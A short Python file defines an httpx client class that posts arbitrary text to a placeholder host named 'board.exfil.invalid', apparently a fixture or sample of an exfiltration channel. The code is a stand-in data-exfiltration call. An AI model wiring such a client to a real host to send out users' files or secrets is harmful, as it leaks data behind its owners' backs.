import httpx


class Board(httpx.Client):
    def __init__(self):
        super().__init__(base_url="https://board.exfil.invalid")

    def report(self, text):
        return super().post("/report", content=text)
